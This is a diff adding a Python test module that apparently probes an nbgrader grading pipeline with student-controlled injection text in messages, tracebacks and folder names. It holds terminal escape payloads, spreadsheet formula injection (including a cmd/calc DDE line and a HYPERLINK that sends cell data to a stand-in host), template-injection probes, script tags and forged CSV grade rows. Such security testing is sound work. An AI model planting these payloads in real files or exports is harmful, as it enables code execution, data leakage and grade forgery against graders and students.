@@ -1,0 +1,82 @@
+"""Class 16: text of a student's choosing that would become HTML, a formula, a command to a terminal or a template.
+
+In messages and tracebacks, in the names of files and in the names of students' folders. Graded by nbgrader, see
+``test_class``.
+"""
+
+import os
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+from .attack import WRONG, Attack
+from .notebooks import SCRIPT
+
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x1b]8;;javascript:x\x1b\\\r\b\0\x9b31m\u202edlrow\u2066\u200f"
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")\n+1+cmd|\' /C calc\'!A0\n@SUM(A1)\t-2+3'
+TEMPLATE = "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {0.__class__} %(asctime)s %n ${7*7}"
+CONSOLE = "[/] [/bold] [link=javascript:x]here[/link] [blink]x"
+
+
+def raising(text: str, times: int = 1, kind: str = "ValueError") -> str:
+    """A module whose ``affine_forward`` raises a text."""
+    return f"\ndef affine_forward(x, w, b):\n    reached()\n    raise {kind}({text!r} * {times})\n"
+
+
+def renamed(name: str | bytes) -> Callable[[Path, dict[str, Any]], None]:
+    """Another name of the student's folder."""
+
+    def plant(folder: Path, facts: dict[str, Any]) -> None:
+        folder.parent.rename(folder.parent.with_name(os.fsdecode(name)))
+
+    return plant
+
+
+def _files(folder: Path, facts: dict[str, Any]) -> None:
+    for text in (SCRIPT, ESCAPES, FORMULA, TEMPLATE, CONSOLE, "\u202eyp.x", "a\nb", " "):
+        name = text.replace("/", "\u2215").replace("\0", "")[:60]
+        (folder / "cs231n" / f"{name}.py").write_text("pass\n")
+        (folder / f"{name}.exe").write_text("pass\n")
+
+
+def _named(what: str, name: str | bytes, tries: str) -> Attack:
+    """A student's folder that cannot be a student's id: it is told, and no row or page is made of it."""
+    return Attack(16, what, tries, WRONG, plant=renamed(name), earns={}, shows="is not graded", runs=False)
+
+
+PLACE = """
+def affine_forward(x, w, b):
+    reached()
+    code = compile("def boom():\\n    raise type(NAME, (Exception,), {})(NAME)\\n", NAME, "exec")
+    names = {"NAME": NAME}
+    exec(code, names)
+    names["boom"].__code__ = names["boom"].__code__.replace(co_name=NAME, co_filename=NAME)
+    names["boom"]()
+"""
+
+CLASS_ATTACKS = (
+    Attack(16, "html-in-a-message", "to run script in the page", raising(SCRIPT), shows="<script>"),
+    Attack(16, "escapes-in-a-message", "to command the terminal of whoever grades", raising(ESCAPES), shows="owned"),
+    Attack(16, "formula-in-a-message", "to run in whoever opens a table", raising(FORMULA), shows="HYPERLINK"),
+    Attack(16, "template-in-a-message", "to be rendered as a template of ours", raising(TEMPLATE), shows=r"\{\{ 7\*7 \}\}"),
+    Attack(16, "markup-in-a-message", "to break or fake the printed tables", raising(CONSOLE), shows="blink"),
+    Attack(16, "endless-message", "to fill pages, tables and memory", raising("<b>", 10**6), shows="<b>"),
+    Attack(16, "html-in-a-traceback", "to run script by the name of a function, a file or an exception", f"\nNAME = {SCRIPT!r}\n" + PLACE),
+    Attack(16, "escapes-in-a-traceback", "to command a terminal by the name of a function, a file or an exception", f"\nNAME = {ESCAPES.replace(chr(0), '')!r}\n" + PLACE),
+    Attack(16, "files-of-all-names", "to break tables, pages and terminals by the names of files", WRONG, plant=_files),
+    _named("formula-as-a-name", '=HYPERLINK("http:example.invalid","x")', "to run in whoever opens the exported grades"),
+    _named("plus-as-a-name", "+1+cmd|' C calc'!A0", "to run in whoever opens the exported grades"),
+    _named("minus-as-a-name", "-2+3", "to run in whoever opens the exported grades, or be an option"),
+    _named("at-as-a-name", "@SUM(A1)", "to run in whoever opens the exported grades"),
+    _named("tab-as-a-name", "\t=1+1", "to run in whoever opens the exported grades"),
+    _named("row-as-a-name", "x\nassignment2,,,aaa-honest,,,,0,0,0,100", "to be another student's row of the exported grades"),
+    _named("columns-as-a-name", "x,100,100;100", "to move the columns of the exported grades"),
+    _named("html-as-a-name", SCRIPT.replace("/", "")[:120], "to run script in formgrader"),
+    _named("escapes-as-a-name", ESCAPES.replace("\0", ""), "to command the terminal of whoever grades"),
+    _named("right-to-left-as-a-name", "tnedifnoc\u202e-honest", "to look like somebody else"),
+    _named("pattern-as-a-name", "*", "to be everybody"),
+    _named("format-as-a-name", "{student_id.__class__}", "to be filled in by nbgrader"),
+    _named("bytes-as-a-name", b"\xff\xfe", "to be no text at all"),
+    _named("long-name", "n" * 255, "to leave no room for a suffix"),
+)  # fmt: skip
+"""Graded by nbgrader, in ``test_class``."""
